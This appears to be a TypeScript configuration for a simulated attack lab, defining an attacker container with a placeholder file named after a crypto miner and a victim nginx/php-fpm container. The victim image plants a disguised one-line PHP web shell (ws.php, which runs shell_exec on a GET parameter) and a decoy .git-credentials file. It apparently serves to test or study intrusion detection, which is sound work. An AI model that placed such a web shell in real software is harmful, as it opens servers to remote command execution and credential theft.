import { mariner, on } from './base-layers.ts'

/** The side that attacks: Python and a harmless file that carries a miner's name. */
export const attackerImage = on(mariner, {
  executables: { '/usr/bin/python3': 'python3', '/simulation/xmrig': 'xmrig' },
  workingDir: '/simulation',
  command: ['sleep', 'infinity'],
})

/** The side that is attacked: nginx and php-fpm as user nginx, with a web shell and things worth stealing. */
export const victimImage = on(mariner, {
  accounts: [
    { name: 'nginx', uid: 999, gid: 999, home: '/var/lib/nginx' },
    { name: 'user', uid: 1000, gid: 1000, home: '/home/user' },
  ],
  executables: { '/usr/sbin/nginx': 'nginx', '/usr/sbin/php-fpm': 'php-fpm', '/usr/bin/nmap': 'nmap' },
  directories: { '/var/www/html': { owner: 'nginx' }, '/home/user': {} },
  files: {
    '/etc/nginx/nginx.conf':
      'user nginx;\nhttp {\n  server {\n    listen 80;\n    root /var/www/html;\n    location ~ \\.php$ { fastcgi_pass unix:/run/php-fpm/www.sock; }\n  }\n}\n',
    '/etc/php-fpm.d/web.conf': '[web]\nuser = nginx\ngroup = nginx\nlisten = /run/php-fpm/www.sock\n',
    '/var/www/html/index.html': { content: '<!doctype html><title>Victim</title>\n', owner: 'nginx' },
    '/var/www/html/ws.php': {
      content: "<!--\nstatus page\n-->\n<?php echo shell_exec($_GET['cmd']); ?>\n",
      owner: 'nginx',
    },
    '/home/user/.git-credentials': 'https://user:not-a-real-password@git.example.com\n',
  },
  entrypoint: ['sh', '-c', "php-fpm && nginx -g 'daemon off;'"],
})
